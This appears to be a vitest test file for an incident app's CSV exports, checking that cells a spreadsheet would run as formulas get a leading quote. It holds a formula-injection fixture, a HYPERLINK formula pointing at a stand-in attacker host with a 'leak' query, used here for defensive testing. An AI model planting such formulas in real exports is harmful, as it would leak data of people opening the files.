// Every CSV the app writes may be opened in a spreadsheet, and its cells hold
// text from outside (recipients' addresses, provider errors, alert titles): a
// cell a spreadsheet would run as a formula comes out with a leading quote.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { openRejectedRowsCsv } from '../../server/rejected-rows-csv';
import { ADMIN_TOKEN, startHarness, type Harness } from '../support/app-harness';
import { insertTestIncident } from '../support/incident-row';
import { insertTestOutboxRow, insertTestSubject } from '../support/subject-rows';

const ID = '01JNXTESTCSVF0RMXXA0000001';
const RECIPIENT = '-2+3@example.test';
const HYPERLINK = '=HYPERLINK("http://evil.test/?leak","Click for details")';

let h: Harness;
beforeAll(async () => {
  h = await startHarness();
  await insertTestIncident(h.db, ID);
  const at = new Date().toISOString();
  await h.db.transaction(async (tx) => {
    const subjectId = await insertTestSubject(tx, {
      incidentId: ID,
      name: HYPERLINK,
      email: RECIPIENT,
      identityKey: 'formula-key',
    });
    await insertTestOutboxRow(tx, {
      id: 'row-formula',
      incidentId: ID,
      subjectId,
      channel: 'email',
      status: 'bounced',
      error: HYPERLINK,
      updatedAt: at,
    });
  });
});
afterAll(async () => {
  await h?.close();
});

describe('CSV exports', () => {
  it('notifications.csv neutralises a recipient and a provider error a spreadsheet would run', async () => {
    const res = await fetch(`${h.baseUrl}/api/incidents/${ID}/notifications.csv`, {
      headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
    });
    expect(res.status).toBe(200);
    const records = parse(await res.text(), { columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(1);
    expect(records[0]!.recipient).toBe(`'${RECIPIENT}`);
    expect(records[0]!.error).toBe(`'${HYPERLINK}`);
    expect(records[0]!.status).toBe('bounced');
  });

  it('the rejected-rows file neutralises its cells too', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'breachline-csv-'));
    try {
      const file = openRejectedRowsCsv(path.join(dir, 'rejected.csv'));
      await file.write({ row: 7, field: '@field', message: '+not a formula once written' });
      await file.close();
      const records = parse(fs.readFileSync(file.path, 'utf8'), { columns: true }) as Record<string, string>[];
      expect(records).toEqual([{ row: '7', field: "'@field", error: "'+not a formula once written" }]);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
